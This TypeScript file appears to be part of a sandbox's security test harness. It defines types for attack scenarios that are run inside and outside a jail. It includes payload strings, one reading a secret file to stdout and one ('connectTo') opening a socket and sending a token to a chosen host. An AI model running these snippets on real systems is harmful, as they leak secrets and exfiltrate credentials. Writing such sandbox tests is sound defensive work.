// Attacks that need a start of their own: other surroundings, another manifest, another command line, or an end.
import type { Cell } from "../cells.ts";
import type { Native } from "../build.ts";
import type { Need, Target } from "../inside/attack.ts";

/** Where one start happens. */
export type Scene = {
  /** On the bare engine flags and manifest mean nothing; everything else is the same. */
  kind: "bare" | "jail";
  target: Target;
  /** What `target.secret` holds. */
  secret: string;
  base: string;
  project: string;
  installation: string;
  native: Native;
  user: Cell["user"];
};

/** How it ended. */
export type Ending = { code: number | null; signal: string | null; stdout: string; stderr: string; milliseconds: number };

export type Arrangement = {
  /** The `cordon` key of the project's package.json; a string is the file itself. */
  manifest?: Readonly<Record<string, unknown>> | string | Buffer;
  /** More files, by path in the project. */
  files?: Readonly<Record<string, string>>;
  /** Symlinks, by path in the project. */
  links?: Readonly<Record<string, string>>;
  /** CommonJS; `at` is the target, `claim()` says its token backwards. */
  code: string;
  /** Where the code lies in the project, `main.cjs` if not said. */
  entry?: string;
  flags?: readonly string[];
  /** The bare engine's: what cordon must not do by itself. */
  engineFlags?: readonly string[];
  env?: Readonly<Record<string, string>>;
  /** Options of native/confine. */
  surroundings?: readonly string[];
  /** What is done to the launcher while it runs; `ready` resolves at the program's line `ready`. */
  meanwhile?: (launcher: number, ready: Promise<unknown>) => Promise<void>;
  /** Harm that canaries do not see. */
  look?: (ending: Ending) => string[];
};

export type Alone = {
  name: string;
  tries: string;
  needs?: readonly Need[];
  user?: "root";
  namespaces?: "needed";
  /** Why the bare engine can't show it; then `shown` says, of the jail's ending, whether the attack was made at all. */
  unproven?: { reason: string; shown: (ending: Ending) => boolean };
  arrange: (scene: Scene) => Arrangement;
};

export const READ = 'process.stdout.write(require("node:fs").readFileSync(at.secret, "latin1"));';

/** Connects, sends the token and waits a moment. */
export function connectTo(host: string, port: string): string {
  return `const socket = require("node:net").connect({ host: ${JSON.stringify(host)}, port: ${port} }); socket.on("connect", () => socket.end(at.token)); socket.on("error", (error) => console.log(String(error))); setTimeout(() => process.exit(), 3000).unref();`;
}
